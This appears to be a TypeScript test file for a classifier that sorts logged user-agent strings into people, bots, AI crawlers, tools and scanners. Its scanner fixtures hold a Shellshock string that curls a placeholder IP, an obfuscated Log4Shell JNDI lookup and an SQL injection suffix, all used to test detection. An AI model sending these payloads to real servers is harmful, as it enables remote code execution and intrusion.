import { readFileSync } from 'node:fs';
import * as fc from 'fast-check';
import { judgeUserAgent } from '../../../../tasks/classify/judging/user-agent.ts';
import { robots } from './crawler-user-agents.ts';

const escaped = (text: string) => text.replaceAll('%', '%25').replaceAll(' ', '%20').replaceAll('"', '%22');

const chrome =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36';
const android = (model: string) =>
  `Mozilla/5.0 (Linux; Android 14; ${model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36`;
const iphone = (app: string) =>
  `Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) ${app}`;

describe('a person', () => {
  test.each([
    [chrome, 'Chrome', 'Chrome', 'Windows', 'desktop'],
    [`${chrome} Edg/142.0.0.0`, 'Edge', 'Edge', 'Windows', 'desktop'],
    [android('Pixel 9'), 'Chrome', 'Chrome', 'Android', 'mobile'],
    [iphone('Version/18.6 Mobile/15E148 Safari/604.1'), 'Safari', 'Safari', 'iOS', 'mobile'],
    [iphone('CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1'), 'Chrome', 'Chrome', 'iOS', 'mobile'],
    [
      iphone('Mobile/15E148 Instagram 400.0.0.20 (iPhone15,3)'),
      'Instagram app',
      'iOS WebView',
      'iOS',
      'mobile',
    ],
    [
      'Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
      'Chrome',
      'Chrome',
      'Chrome OS',
      'desktop',
    ],
    [
      'Mozilla/5.0 (Nintendo Switch; WifiWebAuthApplet) AppleWebKit/609.4 (KHTML, like Gecko) NF/6.0.2',
      'Nintendo',
      'Safari',
      null,
      'console',
    ],
    [
      'Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.270 Safari/537.36',
      'LG TV',
      'WebOS Browser',
      'WebOS',
      'tv',
    ],
    [
      'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; .NET CLR 2.0.50727; chromeframe/20.0)',
      'Internet Explorer',
      'Internet Explorer',
      'Windows',
      'desktop',
    ],
    ['Opera/9.80 (Windows NT 6.1) Presto/2.12.388 Version/12.18', 'Opera', 'Opera', 'Windows', 'desktop'],
  ])('%s', (text, name, browser, system, device) => {
    expect(judgeUserAgent(escaped(text))).toEqual({
      class: 'person',
      name,
      operator: null,
      browser,
      system,
      device,
    });
  });

  test.each([
    'CUBOT P80',
    "Bob's Bot",
    'reeder S19 Max',
    'VEGA LTE-A',
    'moto g power (2022)',
    'Spider X',
    'Yeti',
  ])('has a phone called %s', (model) => {
    expect(judgeUserAgent(escaped(android(model)))).toMatchObject({ class: 'person', name: 'Chrome' });
  });

  test('of 2018 is escaped twice', () => {
    expect(judgeUserAgent(escaped(escaped(chrome)))).toMatchObject({ class: 'person', name: 'Chrome' });
  });
});

describe('a robot', () => {
  test.each([
    [
      'ai-assistant',
      'Perplexity-User',
      'Perplexity',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Perplexity-User/1.0; +https://perplexity.ai/perplexity-user)',
    ],
    [
      'ai-assistant',
      'DuckAssistBot',
      'DuckDuckGo',
      'DuckAssistBot/1.2; (+http://duckduckgo.com/duckassistbot.html)',
    ],
    ['ai-assistant', 'Devin', 'Cognition', `${chrome}; Devin/1.0; +devin.ai`],
    [
      'ai-crawler',
      'Claude-SearchBot',
      'Anthropic',
      'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Claude-SearchBot/1.0; +Claude-SearchBot@anthropic.com)',
    ],
    [
      'ai-crawler',
      'Amazonbot',
      'Amazon',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/600.2.5 (KHTML, like Gecko) Version/8.0.2 Safari/600.2.5 (Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot)',
    ],
    [
      'search',
      'Applebot',
      'Apple',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)',
    ],
    [
      'search',
      'Googlebot',
      'Google',
      `${android('Nexus 5X Build/MMB29P')} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`,
    ],
    [
      'preview',
      'iMessage',
      'Apple',
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0',
    ],
    ['preview', 'Mastodon', 'Mastodon', 'http.rb/5.1.1 (Mastodon/4.3.1; +https://social.example/)'],
    ['preview', 'WhatsApp', 'Meta', 'WhatsApp/2.24.1 A'],
    ['feed', 'NetNewsWire', null, 'NetNewsWire (RSS Reader; https://netnewswire.com/)'],
    [
      'monitor',
      'Datadog Synthetics',
      'Datadog',
      `${chrome.replace('Chrome', 'HeadlessChrome')} DatadogSynthetics`,
    ],
    ['tool', 'HeadlessChrome', null, chrome.replace('Chrome', 'HeadlessChrome')],
    [
      'tool',
      'SemrushBot',
      'Semrush',
      'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
    ],
    ['tool', 'curl', null, 'curl/8.11.0'],
    ['scanner', 'zgrab', null, 'Mozilla/5.0 zgrab/0.x'],
    ['scanner', 'ffuf', null, 'Fuzz Faster U Fool v2.1.0-dev'],
    ['scanner', 'shellshock probe', null, '() { :; }; /bin/bash -c "curl http://203.0.113.9/x"'],
    ['scanner', 'log4shell probe', null, '\u0024{\u0024{lower:j}ndi:ldap://203.0.113.9/a}'],
    ['scanner', 'SQL injection probe', null, `${chrome}' OR 1=1 --`],
  ])('of class %s: %s', (agentClass, name, operator, text) => {
    const judged = { class: agentClass, name, operator, browser: null, system: null, device: null };
    expect(judgeUserAgent(escaped(text))).toEqual(judged);
  });

  test.each([
    ['ai-assistant', 'Fancy-User', 'Mozilla/5.0 (compatible; Fancy-User/1.0; +https://fancy.example)'],
    ['ai-crawler', 'FancyAI-Bot', 'Mozilla/5.0 (compatible; FancyAI-Bot/1.0; +https://fancy.example)'],
    ['feed', 'FancyRSSBot', 'FancyRSSBot/2.0 (+https://fancy.example)'],
    ['tool', 'Fancy Link Spider', 'Fancy Link Spider (https://fancy.example)'],
    ['tool', 'Fancy', 'Mozilla/5.0 (compatible; Fancy/1.0; help@fancy.example)'],
  ])('on no list is told by its words: %s', (agentClass, name, text) => {
    expect(judgeUserAgent(escaped(text))).toMatchObject({ class: agentClass, name, operator: null });
  });
});

test.each(['-', '', '%20'])('nobody says who it is: "%s"', (logged) => {
  expect(judgeUserAgent(logged)).toMatchObject({ class: 'unknown', name: null });
});

test('whatever it is, its name can be stored', () => {
  const anything = fc.string({
    unit: fc.oneof(
      fc.string({ unit: 'binary', maxLength: 1 }),
      fc.constantFrom('%00', '%F0%9F%98%80', '%FF', 'bot', '/', ' ', '(', 'Mozilla/5.0 ('),
    ),
    maxLength: 80,
  });
  fc.assert(
    fc.property(anything, (logged) => {
      const { name } = judgeUserAgent(logged);
      expect(name ?? 'none').toMatch(/^[^\p{Cc}\p{Cs}]+$/u);
      expect(Buffer.byteLength(name ?? '')).toBeLessThanOrEqual(256);
    }),
  );
});

test('a long text takes no longer than a request', () => {
  const hostile = ['a', '(', '<', '{{', 'a.', '%20', "' or ", 'a-user ', 'select ', '(compatible; '];
  const start = performance.now();
  for (const text of hostile) judgeUserAgent(`Mozilla/5.0 (${text.repeat(20_000)}`);
  expect(performance.now() - start).toBeLessThan(2000);
});

test('no robot that others know is taken for a person', () => {
  expect(robots().filter((robot) => judgeUserAgent(escaped(robot)).class === 'person')).toEqual([]);
});

const { SAMPLES_DIR } = process.env;

(SAMPLES_DIR ? test : test.skip)('the samples are judged right', () => {
  const [, ...lines] = readFileSync(`${SAMPLES_DIR}/ua-cases.tsv`, 'utf8').trim().split('\n');
  const wrong = lines.filter((line) => {
    const [logged, agentClass, name, alsoAccepted = ''] = line.split('\t') as [
      string,
      string,
      string,
      string?,
    ];
    const judged = judgeUserAgent(logged);
    const also = alsoAccepted.split(',');
    return ![agentClass, ...also].includes(judged.class) || ![name, ...also].includes(judged.name ?? '');
  });
  expect(wrong).toEqual([]);
});
